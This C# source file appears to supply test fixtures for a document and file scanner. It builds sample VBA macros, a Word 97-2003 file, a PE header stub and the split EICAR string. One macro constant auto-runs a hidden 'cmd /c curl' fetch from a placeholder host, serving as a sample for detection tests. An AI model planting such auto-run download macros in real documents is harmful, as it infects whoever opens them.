using System.Text;

namespace Sekisho.SampleMaker;

/// <summary>Ready-made harmless files that many tests want.</summary>
public static class Samples
{
    /// <summary>When every sample was made: the same octets come out whenever it is made again.</summary>
    public static readonly DateTimeOffset Time = new(2026, 11, 22, 10, 0, 0, TimeSpan.Zero);

    /// <summary>Macro text that starts by itself and only says hello.</summary>
    public const string AutoOpenSource = "Sub AutoOpen()\r\n    MsgBox \"harmless\"\r\nEnd Sub\r\n";

    /// <summary>Macro text that starts a program by itself, one that is nowhere.</summary>
    public const string RunsProgramSource = "Sub AutoOpen()\r\n    Shell \"cmd /c curl https://payload.example/x\", vbHide\r\nEnd Sub\r\n";

    /// <summary>Macro text that nothing starts.</summary>
    public const string QuietSource = "' AutoOpen is only mentioned here\r\nSub Hello()\r\n    MsgBox \"Sub AutoOpen()\"\r\nEnd Sub\r\n";

    /// <summary>A project of one module.</summary>
    public static byte[] VbaProject(string source, int codePage = 1252) => new VbaProjectWriter(codePage).Add("Module1", source).ToArray();

    /// <summary>A Word 97-2003 document, with a macro where source text is given.</summary>
    public static byte[] OldDocument(string? source = null)
    {
        var file = new CompoundFileWriter().Add("WordDocument", new byte[5000]).Add("1Table", new byte[100]);
        if (source is not null)
        {
            new VbaProjectWriter().Add("ThisDocument", source).AddTo(file, "Macros");
        }

        return file.ToArray();
    }

    /// <summary>The smallest thing that looks like a Windows program; it cannot run.</summary>
    public static byte[] Program()
    {
        var octets = new byte[512];
        octets[0] = (byte)'M';
        octets[1] = (byte)'Z';
        octets[0x3C] = 0x80;
        octets[0x80] = (byte)'P';
        octets[0x81] = (byte)'E';
        return octets;
    }

    /// <summary>The EICAR test file, put together so that scanners leave the test program alone.</summary>
    public static byte[] Eicar() => Encoding.ASCII.GetBytes(@"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
}
